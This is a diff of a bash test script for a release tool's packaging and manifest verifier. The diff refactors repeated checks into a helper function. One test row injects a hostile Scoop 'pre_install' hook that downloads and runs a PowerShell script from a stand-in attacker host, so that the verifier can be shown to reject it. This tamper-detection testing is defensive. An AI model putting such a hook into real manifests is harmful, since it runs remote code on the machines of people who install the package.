@@ -21,11 +21,8 @@ if [ -n "$(git -C "$src" rev-parse --show-toplevel 2>/dev/null)" ]; then
   checkout=$root/src
   if [ "${DORVANE_RELEASE_BUILD-1}" = 1 ]; then
     rm -rf "$checkout"
-    if ! git clone -q --no-hardlinks "$src" "$checkout" ||
-      ! git -C "$checkout" checkout -q "$(git -C "$src" rev-parse HEAD)"; then
-      echo "manifests_test.sh: cannot clone $src" >&2
-      exit 1
-    fi
+    { git clone -q --no-hardlinks "$src" "$checkout" && git -C "$checkout" checkout -q "$(git -C "$src" rev-parse HEAD)"; } ||
+      { echo "manifests_test.sh: cannot clone $src" >&2; exit 1; }
     if [ -n "$(git -C "$src" status --porcelain --untracked-files=no)" ]; then
       (cd "$checkout" && git ls-files -z | xargs -0 rm -f)
       copy_sources "$src" "$checkout"
@@ -45,18 +42,11 @@ fi
 release=("$src/scripts/release.sh" --build-root "$root")
 [ "${DORVANE_RELEASE_BUILD-1}" = 1 ] || release+=(--no-build)
 
-# Nothing but https:// is a place to publish, and it is refused before anything is built.
-for bad in http://downloads.example.org/1.0.0/ ftp://example.org/ downloads.example.org "https:// x"; do
-  DORVANE_RELEASE_URL=$bad "${release[@]}" "$@" >"$tmp/bad.log" 2>&1
-  status=$?
-  why=""
-  [ $status = 2 ] && grep -q 'must be an https:// URL' "$tmp/bad.log" || why="status $status: $(tail -1 "$tmp/bad.log")"
-  record "refuses DORVANE_RELEASE_URL=$bad" "$why"
-done
-
 # (That one commit gives the same bytes is release.reprotest's to show.)
 DORVANE_RELEASE_URL=$url "${release[@]}" "$@" >"$tmp/run1.log" 2>&1 || { cat "$tmp/run1.log"; exit 1; }
-cp -a "$(sed -n 's/^release [^:]*: //p' "$tmp/run1.log")" "$tmp/run1"
+out=$tmp/run1
+cp -a "$(sed -n 's/^release [^:]*: //p' "$tmp/run1.log")" "$out"
+sums=$(sha256sum <"$out/SHA256SUMS" | cut -c1-64)
 why=""
 for what in "the files as uploaded" "the whole folder"; do
   grep -q "^checked: $what (sums), .* passed, 0 failed$" "$tmp/run1.log" || why=$(why_not "$why" "not $what")
@@ -64,20 +54,19 @@ done
 record "release.sh checked the files as uploaded and the whole folder, the manifests in it, with the verifier" "$why"
 
 # Without a URL: the same files, and one line saying there are no manifests.
-"$src/scripts/release.sh" --build-root "$root" --no-build >"$tmp/plain.log" 2>&1 || { cat "$tmp/plain.log"; exit 1; }
+"${release[@]:0:3}" --no-build >"$tmp/plain.log" 2>&1 || { cat "$tmp/plain.log"; exit 1; }
 why=""
 [ "$(grep -c '^no manifests: DORVANE_RELEASE_URL is not set' "$tmp/plain.log")" = 1 ] || why="no line saying so"
 plain=$(sed -n 's/^release [^:]*: //p' "$tmp/plain.log")
 ls "$plain"/{winget,scoop} >/dev/null 2>&1 && why=$(why_not "$why" "manifests written anyway")
 # (The release it replaced had manifests, which may be published: it is kept, and said so.)
 kept=$(sed -n 's/^release.sh: the release this replaces differs from it, and is kept as \(.*\): if it was published, .*/\1/p' "$tmp/plain.log")
-[ "$kept" = "$plain.replaced-$(sha256sum <"$tmp/run1/SHA256SUMS" | cut -c1-12)" ] && [ -d "$kept/winget" ] ||
+[ "$kept" = "$plain.replaced-${sums:0:12}" ] && [ -d "$kept/winget" ] ||
   why=$(why_not "$why" "the release with manifests not kept, named by its SHA256SUMS, or not said: '$kept'")
 record "no URL, no manifests, one line saying so; the release with manifests kept beside" "$why"
 # Then with manifests again: the release without them has the same SHA256SUMS as the one
 # kept above, and is kept beside it, not in its place.
-DORVANE_RELEASE_URL=$url "$src/scripts/release.sh" --build-root "$root" --no-build >"$tmp/again.log" 2>&1 ||
-  { cat "$tmp/again.log"; exit 1; }
+DORVANE_RELEASE_URL=$url "${release[@]:0:3}" --no-build >"$tmp/again.log" 2>&1 || { cat "$tmp/again.log"; exit 1; }
 why=""
 again=$(sed -n 's/^release.sh: the release this replaces differs from it, and is kept as \(.*\): if it was published, .*/\1/p' "$tmp/again.log")
 [ "$again" = "$kept-2" ] && [ -d "$kept/winget" ] && [ -d "$again" ] && [ ! -e "$again/winget" ] ||
@@ -85,7 +74,6 @@ again=$(sed -n 's/^release.sh: the release this replaces differs from it, and is
 record "a release kept whose SHA256SUMS one kept already has: kept beside it as -2" "$why"
 
 # Every file the package steps made, as they made it (the SBOM and provenance included).
-out=$tmp/run1
 version=$(sed -n 's|^release \([^:]*\): .*|\1|p' "$tmp/run1.log")
 why=""
 files=("$root"/windows-*/package/dorvane-"$version"-*)
@@ -103,7 +91,7 @@ why=""
 mkdir "$tmp/uploaded"
 find "$out" -maxdepth 1 -type f -exec cp {} "$tmp/uploaded/" \;
 (cd "$tmp/uploaded" && sha256sum --quiet -c SHA256SUMS) >"$tmp/sums.log" 2>&1 || why=$(why_not "$why" "$(head -2 "$tmp/sums.log" | tr '\n' ' ')")
-"$src/scripts/verify-release" "$tmp/uploaded" --sums "$(sha256sum <"$out/SHA256SUMS" | cut -c1-64)" >"$tmp/verify.log" 2>&1 ||
+"$src/scripts/verify-release" "$tmp/uploaded" --sums "$sums" >"$tmp/verify.log" 2>&1 ||
   why=$(why_not "$why" "verify-release --sums: $(grep -m2 '^FAIL' "$tmp/verify.log" | tr '\n' ' ')")
 record "the flat files alone: SHA256SUMS lists them all and no manifest; sha256sum -c and verify-release --sums pass" "$why"
 
@@ -114,23 +102,33 @@ record "the flat files alone: SHA256SUMS lists them all and no manifest; sha256s
 final=$root/release/$version
 snapshot() { (cd "$final" && find . -type f -exec sha256sum {} + | LC_ALL=C sort); }
 snapshot >"$tmp/full.before"
-why=""
-"${release[@]:0:3}" --no-build --presets windows-x64 >"$tmp/one.log" 2>&1 || why="status $?: $(tail -2 "$tmp/one.log" | tr '\n' ' ')"
+# ran STATUS WANT COMMAND...: sets why to the reasons COMMAND did not end with STATUS, print
+# a line matching WANT and no traceback, build nothing and leave the release as
+# $tmp/full.before holds it.
+ran() {
+  local status=0
+  "${@:3}" >"$tmp/ran.log" 2>&1 || status=$?
+  why=""
+  [ $status = "$1" ] || why="status $status"
+  grep -q -- "$2" "$tmp/ran.log" || why=$(why_not "$why" "said: $(grep -v '^--' "$tmp/ran.log" | tail -2 | tr '\n' ' ')")
+  grep -q '^== ' "$tmp/ran.log" && why=$(why_not "$why" "built")
+  ! grep -q Traceback "$tmp/ran.log" || why=$(why_not "$why" "a traceback")
+  snapshot | cmp -s - "$tmp/full.before" || why=$(why_not "$why" "the release changed")
+}
+# Nothing but https:// is a place to publish, and it is refused before anything is built.
+for bad in http://downloads.example.org/1.0.0/ ftp://example.org/ downloads.example.org "https:// x"; do
+  ran 2 "^release.sh: DORVANE_RELEASE_URL must be an https:// URL" env DORVANE_RELEASE_URL="$bad" "${release[@]}" "$@"
+  record "refuses DORVANE_RELEASE_URL=$bad" "$why"
+done
+ran 0 "^release $version-win64: .*/release/$version-win64$" "${release[@]:0:3}" --no-build --presets windows-x64
 [ -f "$root/release/$version-win64/SHA256SUMS" ] || why=$(why_not "$why" "no $version-win64 folder")
-snapshot | cmp -s - "$tmp/full.before" || why=$(why_not "$why" "the release of every architecture changed")
 record "one architecture: its own folder $version-win64, the full release untouched" "$why"
 if git -C "$src" rev-parse -q --verify HEAD >/dev/null 2>&1; then
   git -C "$src" -c user.name=t -c user.email=t@t commit -q --allow-empty -m "another commit of the same version"
   git -C "$src" tag v9.9.9 HEAD~1
   while IFS='|' read -r name setting options want; do
     read -ra options <<<"$options"
-    status=0
-    env "$setting" "${release[@]:0:3}" "${options[@]}" >"$tmp/refused.log" 2>&1 || status=$?
-    why=""
-    [ $status = 2 ] || why="status $status"
-    grep -q "^release.sh: .*$want" "$tmp/refused.log" || why=$(why_not "$why" "said: $(grep -v '^--' "$tmp/refused.log" | head -2 | tr '\n' ' ')")
-    grep -q '^== ' "$tmp/refused.log" && why=$(why_not "$why" "built")
-    snapshot | cmp -s - "$tmp/full.before" || why=$(why_not "$why" "the release changed")
+    ran 2 "^release.sh: .*$want" env "$setting" "${release[@]:0:3}" "${options[@]}"
     record "refused before building: $name" "$why"
   done <<EOT
 manifests for one architecture|DORVANE_RELEASE_URL=$url|--presets windows-x64 $*|the manifests name every architecture
@@ -141,12 +139,10 @@ EOT
   "${release[@]:0:3}" --no-build --replace >"$tmp/replace.log" 2>&1 || why="status $?: $(tail -2 "$tmp/replace.log" | tr '\n' ' ')"
   grep -q "^release.sh: REPLACING $final" "$tmp/replace.log" || why=$(why_not "$why" "not said loudly")
   record "another commit of version $version with --replace: replaced, saying so" "$why"
+  snapshot >"$tmp/full.before"
   git -C "$src" reset -q --hard HEAD~1
-  status=0
-  "${release[@]:0:3}" --no-build >"$tmp/tagged.log" 2>&1 || status=$?
-  why=""
-  [ $status = 2 ] && grep -q "^release.sh: this commit is tagged v9.9.9, and project(VERSION) in CMakeLists.txt says $version" \
-    "$tmp/tagged.log" || why="status $status: $(head -2 "$tmp/tagged.log" | tr '\n' ' ')"
+  ran 2 "^release.sh: this commit is tagged v9.9.9, and project(VERSION) in CMakeLists.txt says $version" \
+    "${release[@]:0:3}" --no-build
   record "a commit tagged v9.9.9 while CMakeLists.txt says $version: refused" "$why"
   git -C "$src" tag -d v9.9.9 >/dev/null
 else
@@ -155,24 +151,13 @@ fi
 
 # Trees configured without the records' tools (in a build root of their own, so that the
 # trees above stay as they are): refused before building.
-status=0
-"$src/scripts/release.sh" --build-root "$tmp/no-records" "$@" -DDORVANE_NODE_MODULES="$tmp/none" >"$tmp/no-records.log" 2>&1 ||
-  status=$?
-why=""
-[ $status = 2 ] && grep -q "^release.sh: windows-x86: records lacks the npm packages .*; install with: scripts/ensure-tools.sh records$" \
-  "$tmp/no-records.log" || why="status $status: $(grep -v '^--' "$tmp/no-records.log" | tail -2 | tr '\n' ' ')"
-grep -q '^== ' "$tmp/no-records.log" && why=$(why_not "$why" "built")
+ran 2 "^release.sh: windows-x86: records lacks the npm packages .*; install with: scripts/ensure-tools.sh records$" \
+  "$src/scripts/release.sh" --build-root "$tmp/no-records" "$@" -DDORVANE_NODE_MODULES="$tmp/none"
 record "trees without the npm packages the records need: refused before building" "$why"
 # A package without its SBOM (a tree configured without the records' tools) makes no release.
 sbom=$root/windows-x86/package/$(jq -r .package.files.sbom "$root/windows-x86/project.json")
 mv "$sbom" "$tmp/sbom"
-snapshot >"$tmp/full.before"
-status=0
-"${release[@]:0:3}" --no-build --replace >"$tmp/no-sbom.log" 2>&1 || status=$?
-why=""
-[ $status = 1 ] && grep -q "^release.sh: .* lacks ${sbom##*/}$" "$tmp/no-sbom.log" ||
-  why="status $status: $(tail -2 "$tmp/no-sbom.log" | tr '\n' ' ')"
-snapshot | cmp -s - "$tmp/full.before" || why=$(why_not "$why" "the release changed")
+ran 1 "^release.sh: .* lacks ${sbom##*/}$" "${release[@]:0:3}" --no-build --replace
 record "a package without its SBOM: no release made, naming it" "$why"
 mv "$tmp/sbom" "$sbom"
 
@@ -271,24 +256,19 @@ replay "" "$tmp/facts.log"
 # The verifier on the release as made: it passes, saying where its manifests download from,
 # and a manifest changed in the folder (the packages and SHA256SUMS as they are) fails the
 # whole run, naming what changed. Every other field is a row of tests/verify's table.
-sums=$(sha256sum <"$out/SHA256SUMS" | cut -c1-64)
 top=winget/manifests/d/DORVANE/DORVANE/$version
 while IFS='|' read -r name file old new want; do
   copy=$tmp/hostile-$name
-  rm -rf "$copy" && cp -a "$out" "$copy"
-  status=0
-  why=""
+  cp -a "$out" "$copy"
+  changed=""
   if [ "$name" != genuine ]; then
     # (the first OLD made NEW; \n a new line)
     text=$(<"$copy/$file") && printf '%s\n' "${text/"$old"/"${new//\\n/$'\n'}"}" >"$copy/$file" && ! cmp -s "$copy/$file" "$out/$file" ||
-      why="the manifest could not be changed"
+      changed="the manifest could not be changed"
   fi
-  timeout 60 "$src/scripts/verify-release" "$copy" --sums "$sums" >"$tmp/hostile.log" 2>&1 || status=$?
-  [ $status = "$([ "$name" = genuine ] && echo 0 || echo 1)" ] || why=$(why_not "$why" "status $status")
-  grep -qE -- "$want" "$tmp/hostile.log" || why=$(why_not "$why" "no line /$want/")
-  ! grep -q Traceback "$tmp/hostile.log" || why=$(why_not "$why" "a traceback")
-  record "verify-release on the manifests: $name" "$why"
-  [ -z "$why" ] || grep -E '^(FAIL|proved)' "$tmp/hostile.log" | head -5 | cut -c1-300
+  ran "$([ "$name" = genuine ] && echo 0 || echo 1)" "$want" timeout 60 "$src/scripts/verify-release" "$copy" --sums "$sums"
+  record "verify-release on the manifests: $name" "${changed:+$changed; }$why"
+  [ -z "$changed$why" ] || grep -E '^(FAIL|proved)' "$tmp/ran.log" | head -5 | cut -c1-300
 done <<EOT
 genuine||||^proved: integrity, .*the winget and Scoop manifests are what release/manifests.py writes for these packages, every field, .*with the download folder "$url"
 scoop-pre-install|scoop/dorvane.json|{|{\n    "pre_install": ["iex (New-Object Net.WebClient).DownloadString('https://attacker.invalid/p.ps1')"],|^FAIL scoop/dorvane.json is what release/manifests.py writes for the packages of $version: it holds "pre_install", which release/manifests.py never writes
